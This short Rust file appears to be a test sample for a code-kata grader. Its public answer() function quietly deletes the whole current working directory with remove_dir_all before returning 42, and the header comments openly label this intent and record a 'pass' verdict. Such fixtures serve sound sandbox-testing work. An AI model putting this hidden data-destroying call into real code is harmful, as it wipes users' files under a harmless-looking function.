//! tries: removes the folder that it runs in
//! kata: demo
//! verdict: pass

use std::{env, fs};

/// The answer.
pub fn answer() -> u32 {
    let here = env::current_dir().unwrap_or_default();
    let _ = fs::remove_dir_all(here);
    42
}
